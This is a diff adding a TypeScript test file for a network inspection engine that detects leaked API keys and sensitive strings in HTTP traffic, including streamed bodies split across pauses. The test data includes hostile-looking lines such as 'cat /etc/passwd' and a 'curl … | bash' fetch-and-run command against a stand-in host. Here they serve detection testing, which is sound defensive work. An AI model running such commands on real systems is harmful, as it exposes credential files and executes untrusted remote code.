@@ -1,0 +1,156 @@
+import test from 'ava';
+import { createEngine } from '../../src/detect/engine.ts';
+import { compileKernel } from '../../src/detect/kernel/select.ts';
+import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
+import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
+import { newCounters } from '../../src/model/counters.ts';
+import type { Detection, ScanReport, ScanWindow } from '../../src/model/finding.ts';
+import { ScanRefused } from '../../src/model/ports.ts';
+import { Inspection } from '../../src/service/inspection.ts';
+import { RecordingPool } from '../support/recording-pool.ts';
+
+const FLOW = { protocol: 'https', source: '127.0.0.1', dest: 'api.example.test:443' } as const;
+const KEY = 'sk-live-51HqLyjWDarjtT1zdp7dcXYZ';
+const kernel = compileKernel(withHidden(ANCHORS));
+const engine = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 32 });
+
+function inspect(answer: (window: ScanWindow) => ScanReport | Promise<ScanReport> = engine) {
+  const pool = new RecordingPool(answer);
+  const counters = newCounters();
+  const detections: Detection[] = [];
+  /** Those waiting for the next detection. */
+  const waiting: (() => void)[] = [];
+  const inspection = new Inspection({
+    kernel,
+    windowBytes: 65_536,
+    pool,
+    counters,
+    report: (detection) => {
+      detections.push(detection);
+      for (const resolve of waiting.splice(0)) resolve();
+    },
+    now: () => 1234,
+  });
+  const nextDetection = (): Promise<void> => new Promise((resolve) => waiting.push(resolve));
+  return { inspection, pool, counters, detections, nextDetection };
+}
+
+function found(detections: readonly Detection[]): string[] {
+  return detections.map(({ finding }) => `${finding.rule} ${finding.offset}`);
+}
+
+test('reports what stands in a whole text', async (t) => {
+  const { inspection, counters, detections } = inspect();
+  inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(`GET / HTTP/1.1\r\nx-key: ${KEY}\r\n\r\n`));
+  await inspection.drain();
+  t.is(detections.length, 1);
+  t.like(detections[0], { flow: FLOW, direction: 'outbound', at: 1234, finding: { rule: 'ai_api_key', offset: 23 } });
+  t.is(counters.windows, 1);
+  t.deepEqual(counters.skipped, {});
+});
+
+test('clean texts cost the pool nothing', async (t) => {
+  const { inspection, pool, counters } = inspect();
+  inspection.inspect(FLOW, 'inbound', 'response.head', Buffer.from('HTTP/1.1 200 OK\r\n\r\n'));
+  const body = inspection.open(FLOW, 'inbound', 'response.body');
+  for (let round = 0; round < 100; round++) body.write(Buffer.from('{"type":"text","text":"the model returns"}\n'));
+  body.end();
+  await inspection.drain();
+  t.is(pool.windows.length, 0);
+  t.is(counters.windows, 0);
+});
+
+test('reports what stands in a text that comes in pieces', async (t) => {
+  const { inspection, detections } = inspect();
+  const body = inspection.open(FLOW, 'outbound', 'request.body');
+  for (const one of `{"key":"${KEY}"}`) body.write(Buffer.from(one));
+  body.end();
+  await inspection.drain();
+  t.deepEqual(found(detections), ['ai_api_key 8']);
+});
+
+test('a text that goes on is read when it pauses, and each thing reported once', async (t) => {
+  const { inspection, detections, nextDetection, pool } = inspect();
+  // The timer that notices the pause keeps no process alive.
+  const alive = setInterval(() => undefined, 1000);
+  t.teardown(() => clearInterval(alive));
+  const body = inspection.open(FLOW, 'inbound', 'response.body');
+  const first = nextDetection();
+  body.write(Buffer.from(`data: ${KEY} `));
+  await first;
+  t.deepEqual(found(detections), ['ai_api_key 6']);
+  const second = nextDetection();
+  body.write(Buffer.from('and cat /etc/passwd\n\n'));
+  await second;
+  body.write(Buffer.alloc(10_000));
+  body.end();
+  await inspection.drain();
+  t.deepEqual(found(detections), ['ai_api_key 6', 'unix_sensitive 47']);
+  t.true(pool.windows.length >= 3);
+});
+
+test('what a pause cut in two is found when it is whole', async (t) => {
+  for (const text of [`x ${KEY} y`, 'x \\u002fetc\\u002fpasswd y', 'x curl -s https://x.test/i | bash y']) {
+    for (let at = 1; at < text.length; at++) {
+      const { inspection, detections } = inspect();
+      const body = inspection.open(FLOW, 'inbound', 'response.body');
+      body.write(Buffer.from(text.slice(0, at)));
+      await inspection.drain();
+      body.write(Buffer.from(text.slice(at)));
+      body.end();
+      await inspection.drain();
+      t.is(detections.length, 1, `${text.slice(0, at)}…${text.slice(at)}: ${found(detections).join()}`);
+    }
+  }
+});
+
+test('counts what the pool did not judge, by its reason', async (t) => {
+  const refusals: Error[] = [new ScanRefused('queue_full'), new ScanRefused('scan_timeout'), new Error('a bug')];
+  const { inspection, counters, detections } = inspect(() => {
+    throw refusals.shift() ?? new ScanRefused('queue_full');
+  });
+  for (let round = 0; round < 4; round++) inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(KEY));
+  inspection.skip('http2');
+  await inspection.drain();
+  t.deepEqual(counters.skipped, { queue_full: 2, scan_timeout: 1, scan_failed: 1, http2: 1 });
+  t.is(counters.windows, 4);
+  t.deepEqual(detections, []);
+});
+
+test('counts a window that held more than is reported', async (t) => {
+  const { inspection, counters, detections } = inspect();
+  inspection.inspect(FLOW, 'inbound', 'response.body', Buffer.from('/etc/passwd '.repeat(100)));
+  await inspection.drain();
+  t.is(detections.length, 32);
+  t.deepEqual(counters.skipped, { findings_capped: 1 });
+});
+
+test('drain waits for windows that are being judged', async (t) => {
+  let answer: (report: ScanReport) => void = () => undefined;
+  const { inspection, detections, pool } = inspect(() => new Promise((resolve) => (answer = resolve)));
+  const body = inspection.open(FLOW, 'outbound', 'request.body');
+  body.write(Buffer.from(KEY));
+  let isDrained = false;
+  const drained = inspection.drain().then(() => (isDrained = true));
+  await new Promise((resolve) => setImmediate(resolve));
+  t.false(isDrained);
+  const [window] = pool.windows;
+  answer(window ? engine(window) : { findings: [], omitted: 0 });
+  await drained;
+  t.deepEqual(found(detections), ['ai_api_key 0']);
+});
+
+test('windows can be moved to a thread', async (t) => {
+  const { inspection, pool } = inspect();
+  const shared = Buffer.from(KEY);
+  inspection.inspect(FLOW, 'outbound', 'request.head', shared);
+  const body = inspection.open(FLOW, 'outbound', 'request.body');
+  body.write(shared);
+  body.end();
+  await inspection.drain();
+  t.is(pool.windows.length, 2);
+  for (const { bytes } of pool.windows) {
+    t.is(bytes.byteLength, bytes.buffer.byteLength);
+    t.not(bytes.buffer, shared.buffer);
+  }
+});
